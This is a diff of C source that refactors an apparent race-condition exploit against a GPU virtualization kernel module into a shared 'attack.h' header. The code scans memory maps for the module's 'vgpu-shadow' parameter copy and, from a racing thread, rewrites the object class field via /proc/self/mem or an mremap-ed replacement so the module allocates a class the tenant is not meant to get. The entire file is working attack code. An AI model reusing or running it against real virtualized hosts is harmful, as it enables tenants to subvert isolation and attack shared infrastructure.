@@ -23,116 +23,55 @@
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <pthread.h>
-#include <setjmp.h>
-#include <signal.h>
-#include <stdatomic.h>
-#include <stdint.h>
-#include <stdio.h>
 #include <stdlib.h>
-#include <string.h>
 #include <errno.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/uio.h>
-#include <time.h>
 #include <unistd.h>
 
-#define NV_IOCTL_MAGIC		'F'
-#define NV_ESC_RM_ALLOC		0x2B
+#include "attack.h"
+
 #define VIRTUAL_CLASS		0x50A0
 #define VIDEO_CLASS		0x40
-#define MAX_SCAN		(64UL << 20)
-#define MAX_REGIONS		8
-
-struct nvos21 {
-	uint32_t h_root, h_parent, h_new, h_class;
-	uint64_t p_alloc_parms;
-	uint32_t params_size, status;
-};
 
 static atomic_int stop;
 static atomic_int called;
 static uint32_t client, parent;
 static atomic_ulong writes, faults, replaced;
 static int unmap_mode;
-static char *regions[MAX_REGIONS];
-static unsigned long region_lo[MAX_REGIONS], region_hi[MAX_REGIONS];
-static atomic_int n_regions;
-static atomic_ulong found;	/* regions found, all told */
+static struct shadows sh;
 static int mem_fd = -1;
-static __thread sigjmp_buf lost;
-static __thread volatile sig_atomic_t armed;
 
-static void on_fault(int sig)
+/* The params as the module copied them: either class, not yet flipped. */
+static int is_params(volatile uint32_t *p)
 {
-	if (!armed) {
-		signal(sig, SIG_DFL);
-		raise(sig);
-		return;
-	}
-	siglongjmp(lost, 1);
+	return p[0] == client && p[1] == parent &&
+	       (p[3] == VIRTUAL_CLASS || p[3] == VIDEO_CLASS);
 }
 
-/* Readable pages that begin as the tenant's params do: the shadow. */
+/* A copy of ours lies where a replaced one was: the module's mapping only. */
 static void find_regions(void)
 {
-	char line[512];
-	FILE *f = fopen("/proc/self/maps", "r");
-	int n = atomic_load(&n_regions);
-
-	if (!f)
-		return;
-	while (n < MAX_REGIONS && fgets(line, sizeof(line), f)) {
-		unsigned long lo, hi, off;
-		char perms[8];
-		int i, known, end = 0;
-
-		if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perms, &end) < 3)
-			continue;
-		/* Readable and writable, private or shared; not the kernel's. */
-		if (hi - lo > MAX_SCAN || perms[0] != 'r' || perms[1] != 'w' ||
-		    line[end] == '[')
-			continue;
-		/* A copy of ours lies where a replaced one was: the module's only. */
-		if (unmap_mode && !strstr(line + end, "vgpu-shadow"))
-			continue;
-		for (off = lo; off < hi && n < MAX_REGIONS; off += 4096) {
-			volatile uint32_t *p = (volatile uint32_t *)off;
-
-			if (p[0] != client || p[1] != parent ||
-			    (p[3] != VIRTUAL_CLASS && p[3] != VIDEO_CLASS))
-				continue;
-			known = 0;
-			for (i = 0; i < n; i++)
-				known |= regions[i] == (char *)off;
-			if (!known) {
-				region_lo[n] = lo;
-				region_hi[n] = hi;
-				regions[n++] = (char *)off;
-				atomic_fetch_add(&found, 1);
-			}
-		}
-	}
-	fclose(f);
-	atomic_store(&n_regions, n);
+	find_shadows(&sh, is_params, unmap_mode ? "vgpu-shadow" : NULL);
 }
 
 /* Moves a copy of region @i, hClass 0x40, over it. */
 static void replace(int i)
 {
-	unsigned long lo = region_lo[i], len = region_hi[i] - lo;
+	unsigned long lo = sh.lo[i], len = sh.hi[i] - lo;
 	char *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
 			  -1, 0);
 
 	if (copy == MAP_FAILED)
 		return;
 	memcpy(copy, (void *)lo, len);
-	((uint32_t *)(copy + ((unsigned long)regions[i] - lo)))[3] = VIDEO_CLASS;
+	((uint32_t *)(copy + ((unsigned long)sh.page[i] - lo)))[3] = VIDEO_CLASS;
 	if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)lo) == MAP_FAILED)
 		munmap(copy, len);
 	else
 		atomic_fetch_add(&replaced, 1);
-	atomic_store(&n_regions, 0);	/* the module maps a new one */
+	atomic_store(&sh.n, 0);	/* the module maps a new one */
 }
 
 static void *rewriter(void *arg)
@@ -143,11 +82,11 @@ static void *rewriter(void *arg)
 	(void)arg;
 	if (sigsetjmp(lost, 1)) {
 		atomic_fetch_add(&faults, 1);
-		atomic_store(&n_regions, 0);
+		atomic_store(&sh.n, 0);
 	}
 	armed = 1;
 	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
-		int i, n = atomic_load_explicit(&n_regions, memory_order_relaxed);
+		int i, n = atomic_load_explicit(&sh.n, memory_order_relaxed);
 
 		if (!atomic_load_explicit(&called, memory_order_relaxed))
 			continue;
@@ -159,7 +98,7 @@ static void *rewriter(void *arg)
 			continue;
 		}
 		for (i = 0; i < n; i++) {
-			volatile uint32_t *p = (volatile uint32_t *)regions[i];
+			volatile uint32_t *p = (volatile uint32_t *)sh.page[i];
 			struct iovec l = { &video, 4 }, r = { (void *)&p[3], 4 };
 
 			switch (turn % 64) {
@@ -185,14 +124,6 @@ static void *rewriter(void *arg)
 	return NULL;
 }
 
-static double now(void)
-{
-	struct timespec ts;
-
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return ts.tv_sec + ts.tv_nsec / 1e9;
-}
-
 int main(int argc, char **argv)
 {
 	unsigned char mem[128] __attribute__((aligned(8)));
@@ -215,8 +146,7 @@ int main(int argc, char **argv)
 	unmap_mode = argc > 8 && !strcmp(argv[8], "unmap");
 	mem_fd = open("/proc/self/mem", O_RDWR);
 
-	signal(SIGSEGV, on_fault);
-	signal(SIGBUS, on_fault);
+	catch_faults();
 	if (pthread_create(&t, NULL, rewriter, NULL))
 		return 1;
 	start = now();
@@ -248,7 +178,7 @@ int main(int argc, char **argv)
 	atomic_store(&stop, 1);
 	pthread_join(t, NULL);
 	printf("attempts %lu ok %lu failed %lu found %lu writes %lu faults %lu replaced %lu "
-	       "eio %lu\n", attempts, ok, failed, (unsigned long)atomic_load(&found),
+	       "eio %lu\n", attempts, ok, failed, (unsigned long)atomic_load(&sh.found),
 	       (unsigned long)atomic_load(&writes), (unsigned long)atomic_load(&faults),
 	       (unsigned long)atomic_load(&replaced), eio);
 	return 0;
